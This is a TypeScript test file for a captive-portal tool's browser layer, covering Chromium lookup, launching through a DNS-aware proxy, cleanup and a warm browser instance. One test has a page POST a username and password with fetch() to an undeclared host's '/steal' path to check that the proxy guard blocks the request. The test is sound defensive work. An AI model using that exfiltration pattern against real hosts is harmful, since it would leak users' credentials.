import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import type { LookupFunction } from "node:net";
import { after, before, describe, it } from "node:test";
import { createBrowserGuard } from "../../../src/browser/guard.ts";
import {
  chromiumAvailable,
  findChromium,
  type LaunchedBrowser,
  launchBrowser,
} from "../../../src/browser/launch.ts";
import { startBrowserProxy } from "../../../src/browser/proxy.ts";
import { createBrowserSession } from "../../../src/browser/session.ts";
import { startWarmInstance } from "../../../src/browser/warm-instance.ts";
import { isHotspotError } from "../../../src/errors.ts";
import { chromiumCount, noChromium, type PortalStandIn, startPortalStandIn } from "./helpers.ts";

describe("findChromium", () => {
  it("names the install command when the configured executable is missing", () => {
    // A window needs the full browser: the headless shell is named only as not enough.
    assert.throws(
      () => findChromium(undefined, { HOTSPOT_CHROMIUM: "/nonexistent/chromium" }),
      (e: unknown) =>
        isHotspotError(e, "HH_BROWSER_MISSING") &&
        e.message.includes("apt install chromium`") &&
        !e.message.includes("apt install chromium-headless-shell") &&
        e.message.includes("/nonexistent/chromium"),
    );
    // A headless launch runs on either: both commands, the smaller first.
    assert.throws(
      () => findChromium(undefined, { HOTSPOT_CHROMIUM: "/nonexistent/chromium" }, true),
      (e: unknown) =>
        isHotspotError(e, "HH_BROWSER_MISSING") &&
        /apt install chromium-headless-shell`.*apt install chromium`/.test(e.message),
    );
    assert.equal(chromiumAvailable(undefined, { HOTSPOT_CHROMIUM: "/nonexistent/chromium" }), false);
  });

  it("headless launches prefer the headless shell; a window never gets it", {
    skip: existsSync("/usr/lib/chromium/chromium-headless-shell")
      ? false
      : "chromium-headless-shell is not installed",
  }, () => {
    assert.equal(findChromium(undefined, {}, true), "/usr/lib/chromium/chromium-headless-shell");
    assert.doesNotMatch(findChromium(undefined, {}, false), /headless-shell/);
    // An operator's choice wins over the preference.
    assert.equal(findChromium(undefined, { HOTSPOT_CHROMIUM: process.execPath }, true), process.execPath);
  });

  it("launchBrowser rejects with the coded error before creating anything", async () => {
    await assert.rejects(launchBrowser({ executablePath: "/nonexistent/chromium" }), (e: unknown) =>
      isHotspotError(e, "HH_BROWSER_MISSING"),
    );
  });
});

/** A lookup that knows one made-up name, as the link's DNS would: the system resolver does not. */
const linkLookup: LookupFunction = (hostname, options, callback) => {
  if (hostname === "portal.link.test") {
    if (options.all === true) callback(null, [{ address: "127.0.0.1", family: 4 }]);
    else callback(null, "127.0.0.1", 4);
  } else callback(Object.assign(new Error(`not on the link: ${hostname}`), { code: "ENOTFOUND" }), "", 0);
};

describe("Chromium through the link proxy", { skip: noChromium() }, () => {
  let server: PortalStandIn;
  let port = 0;
  const seen: { url: string; body: string }[] = [];
  before(async () => {
    server = await startPortalStandIn("127.0.0.1", (req, body, res) => {
      seen.push({ url: req.url ?? "", body });
      res
        .writeHead(200, { "content-type": "text/html" })
        .end("<title>portal</title><p id=x>hello from the link</p>");
    });
    port = server.port;
  });
  after(() => server.close());

  it("resolves names through the link's lookup, and leaves no process or profile behind", async () => {
    const proxy = await startBrowserProxy({ lookup: linkLookup });
    let launched: LaunchedBrowser | undefined;
    try {
      launched = await launchBrowser({ proxy: proxy.address });
      assert.ok(chromiumCount(launched.profileDir) > 0, "chromium runs with its own profile");
      const page = await launched.browser.newPage();
      await page.goto(`http://portal.link.test:${port}/start`);
      assert.equal(await page.$eval("#x", (e) => e.textContent), "hello from the link");
      assert.ok(seen.some((s) => s.url === "/start"));
    } finally {
      await launched?.close();
      await proxy.close();
    }
    assert.equal(chromiumCount(launched.profileDir), 0);
    assert.equal(existsSync(launched.profileDir), false);
  });

  it("closes the browser when its signal aborts", async () => {
    const controller = new AbortController();
    const launched = await launchBrowser({ signal: controller.signal });
    assert.ok(chromiumCount(launched.profileDir) > 0);
    controller.abort();
    await launched.close(); // the same close the abort started
    assert.equal(chromiumCount(launched.profileDir), 0);
    assert.equal(existsSync(launched.profileDir), false);
  });

  it("the proxy refuses a plain-HTTP request carrying a secret to an undeclared host", async () => {
    const refused: string[] = [];
    const guard = createBrowserGuard({
      credentials: { username: "alice", password: "s3cret pass" },
      portalHosts: [{ host: "127.0.0.1", allowHttp: true }],
      pluginId: "t",
    });
    const proxy = await startBrowserProxy({
      lookup: linkLookup,
      guard,
      onRefused: (e) => refused.push(e.message),
    });
    const launched = await launchBrowser({ proxy: proxy.address });
    try {
      const page = await launched.browser.newPage();
      await page.goto(`http://127.0.0.1:${port}/declared`);
      const status = await page.evaluate(async (url) => {
        const r = await fetch(url, { method: "POST", body: "user=alice&pass=s3cret+pass", mode: "no-cors" });
        return r.status;
      }, `http://portal.link.test:${port}/steal`);
      // no-cors hides the status from the page; what matters is that nothing arrived
      assert.ok(typeof status === "number");
      assert.equal(seen.filter((s) => s.url === "/steal").length, 0, "the undeclared host received nothing");
      assert.equal(refused.length, 1);
      assert.match(refused[0] ?? "", /portal\.link\.test/);
      assert.doesNotMatch(refused[0] ?? "", /s3cret/);
      // the same body to the declared host (plain HTTP allowed there) goes through
      await page.evaluate(async (url) => {
        await fetch(url, { method: "POST", body: "user=alice&pass=s3cret+pass" });
      }, `http://127.0.0.1:${port}/login`);
      assert.ok(seen.some((s) => s.url === "/login" && s.body.includes("s3cret")));
    } finally {
      await launched.close();
      await proxy.close();
    }
  });

  it("a warm tab serves a hook through the hook's link, and the browser outlives the hook", async () => {
    const warm = await startWarmInstance({ launch: (o) => launchBrowser(o) });
    try {
      const session = createBrowserSession({
        pluginId: "t",
        credentials: undefined,
        portalHosts: [],
        lookup: linkLookup,
        signal: new AbortController().signal,
        log: { debug() {}, info() {}, warn() {}, error() {} },
        acquire: (_signal, binding) => warm.lease(binding),
      });
      const page = await session.open();
      // The made-up name resolves only through the proxy's (the link's) lookup.
      await page.open(`http://portal.link.test:${port}/warm`);
      assert.match((await page.read()).text, /hello from the link/);
      await session.close();
      assert.equal(warm.usable, true, "the warm browser is still running");
      assert.equal(chromiumCount(warm.profileDir) > 0, true);
      assert.equal(await warm.ready(), true, "a fresh tab is prepared for the next hook");
    } finally {
      await warm.close();
    }
    assert.equal(chromiumCount(warm.profileDir), 0);
  });
});
